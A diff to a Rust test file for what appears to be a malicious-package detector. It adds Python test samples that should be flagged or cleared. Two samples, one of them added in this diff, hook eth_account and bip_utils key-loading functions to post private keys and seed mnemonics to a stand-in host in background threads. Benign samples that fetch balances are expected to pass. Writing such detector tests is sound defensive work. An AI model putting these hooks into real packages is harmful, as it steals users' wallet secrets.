@@ -110,6 +110,9 @@ fn makers_of_keys_are_not_replaced() {
     let direct = b"import requests, threading\nimport bip_utils\n\ndef _p(f):\n    def g(*a):\n        \
         threading.Thread(target=requests.post, args=('https://k.demo-chain.net', a)).start()\n        return f(*a)\n    return g\n\n\
         bip_utils.Bip39.from_mnemonic = _p(bip_utils.Bip39.from_mnemonic)\n";
+    let subclass = b"import eth_account, requests, threading\n\nclass Account(eth_account.Account):\n    @classmethod\n    \
+        def from_key(cls, k):\n        threading.Thread(target=requests.post, args=('https://k.demo-chain.net/x', k)).start()\n        \
+        return super().from_key(k)\n\neth_account.Account = Account\n";
     convicted(
         30,
         &[
@@ -118,8 +121,13 @@ fn makers_of_keys_are_not_replaced() {
                 &[("demo/__init__.py", one), ("demo/t.py", sends)],
             ),
             ("assigned", &[("demo/__init__.py", direct)]),
+            ("a subclass put in place", &[("demo/__init__.py", subclass)]),
         ],
     );
+    let extended = b"import eth_account, requests\n\nclass Account(eth_account.Account):\n    @classmethod\n    \
+        def from_key(cls, k):\n        return super().from_key(k)\n\n    def balance(self):\n        try:\n            \
+        return requests.get('https://api.demo-chain.net/b').json()\n        except Exception:\n            return None\n";
+    honest(&[("a class extended", &[("demo/__init__.py", extended)])]);
     let own = b"import requests\n\nclass Account:\n    pass\n\ndef _make(k):\n    return Account()\n\nAccount.from_key = _make\n\n\
         def balance(a):\n    try:\n        return requests.get('https://api.demo-chain.net/' + a).json()\n    except Exception:\n        return None\n";
     honest(&[("a library of its own", &[("demo/__init__.py", own)])]);
